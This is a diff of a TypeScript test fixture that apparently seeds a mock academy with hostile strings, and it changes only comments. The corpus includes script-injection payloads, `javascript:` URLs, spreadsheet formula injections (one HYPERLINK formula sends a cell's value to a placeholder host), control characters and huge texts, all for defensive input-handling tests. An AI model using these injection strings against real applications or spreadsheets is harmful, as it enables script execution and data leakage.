@@ -1,12 +1,12 @@
-/** Texts that try to run, to break files or to break the page, and an academy whose every text is one of them. */
+/** Texts that try to run, to break files or to break the page, and an academy made of these texts. */
 import type { Snapshot } from '#mocks/tables/rows.ts'
 
-/** What a text would call if it ran. */
+/** The code that a text would run. */
 const run = 'window.ran=1'
 
 const long = (text: string, length: number) => text.repeat(Math.ceil(length / text.length)).slice(0, length)
 
-/** Texts that a browser may take for markup or for code. */
+/** Texts that a browser may treat as markup or code. */
 const code = [
   `<script>${run}</script>`,
   `"><script>${run}</script>`,
@@ -49,7 +49,7 @@ const code = [
   `expression(${run})`,
 ]
 
-/** Texts that a spreadsheet may take for a formula. */
+/** Texts that a spreadsheet may treat as a formula. */
 export const formulas = [
   '=1+1',
   '=HYPERLINK("https://example.invalid?"&A1,"Ana")',
@@ -66,7 +66,7 @@ export const formulas = [
   'Ana,"López"\r\n=1+1',
 ]
 
-/** Texts with characters that are not seen, or change how others are. */
+/** Texts with invisible characters, or with characters that change the display of others. */
 const characters = [
   'Ana\u0000López',
   'Ana\u0007\u0008\u001B[31mLópez',
@@ -91,7 +91,7 @@ const characters = [
   '[object Object]',
 ]
 
-/** Texts with no room for them. */
+/** Texts that are too long for their place. */
 const sizes = [
   long('A', 300),
   long('Ana López ', 3_000),
@@ -100,10 +100,10 @@ const sizes = [
   `<b>${long('0123456789', 1_000_000)}</b>`,
 ]
 
-/** The corpus, by what it tries. */
+/** The corpus, by kind of attack. */
 export const hostileTexts = { code, formulas, characters, sizes }
 
-/** Addresses of pictures: the first ones must never be used, the others lead nowhere. */
+/** Addresses of pictures. The app must never use the first addresses; the others do not exist. */
 export const hostileAddresses = [
   `javascript:${run}`,
   ` javascript:${run}`,
@@ -125,7 +125,7 @@ const all = Object.values(hostileTexts).flat()
 
 const isHuge = (text: string) => text.length > 100_000
 
-/** Gives one hostile text after the other without end; first a huge one, and only once, or the pages only take longer. */
+/** Returns one hostile text after the other without end. A huge text comes first and only once, to save time. */
 function createSource(texts: readonly string[]): () => string {
   const others = texts.filter((text) => !isHuge(text))
   const given = [...texts.filter(isHuge), ...others]
@@ -135,10 +135,7 @@ function createSource(texts: readonly string[]): () => string {
   }
 }
 
-/**
- * An academy in which every text that a person can type or an old system can hold is of the corpus, and no two names
- * are alike.
- */
+/** An academy in which every free or stored text comes from the corpus, with unique names. */
 export function hostileAcademy(academy: Snapshot): Snapshot {
   const namesOf = {
     users: createSource(all),
